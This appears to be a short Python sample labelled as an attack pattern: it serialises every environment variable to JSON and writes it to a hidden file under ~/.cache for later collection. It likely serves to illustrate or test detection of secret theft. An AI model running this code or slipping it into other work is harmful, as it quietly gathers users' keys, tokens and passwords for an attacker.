# Attack pattern: whole environment serialised to JSON and stashed in a hidden file for later collection.
import json
import os

with open(os.path.join(os.path.expanduser("~"), ".cache", ".env.json"), "w") as stash:
    stash.write(json.dumps(dict(os.environ)))
